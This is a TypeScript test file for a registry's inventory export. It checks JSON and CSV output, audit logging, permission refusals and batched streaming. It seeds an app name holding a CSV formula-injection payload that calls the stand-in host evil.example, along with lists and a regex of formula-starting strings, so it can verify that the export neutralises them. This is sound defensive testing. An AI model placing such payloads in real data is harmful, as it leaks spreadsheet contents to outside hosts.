import { afterAll, beforeAll, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { type Actor, commandLine } from '../../src/policy/permissions.ts';
import type { RegistryDeps } from '../../src/registry/deps.ts';
import { listInventory } from '../../src/registry/inventory.ts';
import { csvRecord, type ExportFormat, exportInventory } from '../../src/registry/inventory-export.ts';
import { registerApp } from '../setup/registrations.ts';
import { registryDeps } from '../setup/registry-deps.ts';
import { createWorld, type World } from '../setup/world.ts';

let world: World;
let deps: RegistryDeps;

beforeAll(async () => {
  world = await createWorld('postgresql');
  deps = registryDeps(world);
  await world.store.prisma.app.update({ where: { id: world.clientId }, data: { backupOwnerId: null } });
  await registerApp(world, world.clientId, {
    name: '=HYPERLINK("https://evil.example?"&A1,"go")',
    ownerId: null,
  });
});
afterAll(() => world.stop());

async function read(format: ExportFormat, filter: object = {}, actor = commandLine): Promise<string> {
  const pieces: string[] = [];
  for await (const piece of await exportInventory(deps, actor, { format, filter })) pieces.push(piece);
  return pieces.join('');
}

/** RFC 4180 §2, read strictly. */
function parsed(csv: string): string[][] {
  expect(csv.endsWith('\r\n')).toBe(true);
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const records: string[][] = [[]];
  for (let match = field.exec(csv); match !== null; match = field.exec(csv)) {
    records.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') records.push([]);
    if (field.lastIndex === csv.length) return records.slice(0, -1);
  }
  throw new Error('not a CSV file');
}

const events = () => world.store.prisma.auditEvent.findMany({ where: { type: 'inventory.exported' } });

test('as JSON it holds every path as it is listed, and says when and of what it was made', async () => {
  const { paths, ...about } = JSON.parse(await read('json'));
  const { rows } = await listInventory(deps, commandLine, { limit: 200 });
  expect(paths).toEqual(JSON.parse(JSON.stringify(rows)));
  expect(about).toEqual({ issuer: world.issuer, exportedAt: expect.any(String), filter: {} });
});

test('as CSV it holds a line for every path, with one number of fields (RFC 4180 §2)', async () => {
  const [head = [], ...lines] = parsed(await read('csv'));
  const { rows } = await listInventory(deps, commandLine, { limit: 200 });
  expect(head.slice(0, 3)).toEqual(['kind', 'id', 'name']);
  expect(lines.map(([kind, id]) => [kind, id])).toEqual(rows.map(({ kind, id }) => [kind, id]));
  expect(lines.filter((line) => line.length !== head.length)).toEqual([]);
  const lantern = lines.find(([, id]) => id === world.clientId) ?? [];
  const told = Object.fromEntries(head.map((name, index) => [name, lantern[index]]));
  expect(told).toMatchObject({
    ...{ organization: 'Lantern Health, Inc.', owner: 'Dana Whitfield', backup_owner: '', access: 'view' },
    ...{ live_patients: '0', live_tokens: '0', findings: 'backup_missing', state: 'acting' },
    attestation_due_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/),
  });
});

test('no field is a formula for a spreadsheet', async () => {
  const csv = await read('csv', { kind: 'app' });
  expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1,""go"")",`);
  for (const field of parsed(csv).flat()) expect(field).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
});

test('whatever a record holds is read back from the line, and never begins a formula', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.stringMatching(/^[\s=+@"',;-]{0,6}$/),
    fc.constantFrom('=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r\n', '＝1', '"', ','),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (cells) => {
      const [fields = []] = parsed(csvRecord(cells));
      expect(fields.map((field, index) => (cells[index] === field ? field : field.slice(1)))).toEqual(cells);
      for (const field of fields) expect(field).not.toMatch(/^(\s*[=+\-@＝＋－＠]|[\t\r\n])/);
    }),
  );
});

test('a filter narrows it', async () => {
  const { paths, filter } = JSON.parse(await read('json', { kind: 'app', finding: 'owner_missing' }));
  expect(filter).toEqual({ kind: 'app', finding: 'owner_missing' });
  expect(paths).toHaveLength(1);
  expect(parsed(await read('csv', { kind: 'app', text: 'there is no such name' }))).toHaveLength(1);
});

test('who took it, of what and as what is recorded before the first line', async () => {
  const before = (await events()).length;
  const actor: Actor = {
    ...{ personId: 'priya-raman', organizationId: 'demo-network', roles: ['reviewer'], via: 'console' },
  };
  await exportInventory(deps, actor, { format: 'csv', filter: { kind: 'ehr' } });
  const [event] = (await events()).slice(before);
  expect(event).toMatchObject({
    accountId: 'priya-raman',
    detail: { format: 'csv', filter: { kind: 'ehr' }, via: 'console' },
  });
});

test('a developer gets nothing, nor does a filter that is not understood, and nothing is recorded', async () => {
  const before = (await events()).length;
  const developer: Actor = { ...commandLine, organizationId: 'lantern', roles: ['developer'] };
  await expect(read('json', {}, developer)).rejects.toMatchObject({ reason: 'not_allowed' });
  await expect(read('csv', { owner: 'me' })).rejects.toMatchObject({ reason: 'input_invalid' });
  expect(await events()).toHaveLength(before);
});

test('it is written while it is read: no piece holds more than one batch', async () => {
  const { prisma } = world.store;
  const people = Array.from({ length: 1_200 }, (_, index) => `temp-${index}`);
  await prisma.person.createMany({
    data: people.map((id) => ({
      id,
      organizationId: 'lantern',
      name: id,
      email: `${id}@x.example`,
      userHandle: id,
    })),
  });
  await prisma.personRole.createMany({
    data: people.map((id) => ({ id, personId: id, role: 'developer', grantedBy: 'test' })),
  });
  const sizes: number[] = [];
  for await (const piece of await exportInventory(deps, commandLine, {
    format: 'csv',
    filter: { kind: 'person' },
  })) {
    sizes.push(parsed(piece).length);
  }
  expect(Math.max(...sizes)).toBeLessThanOrEqual(500);
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeGreaterThan(1_200);
});
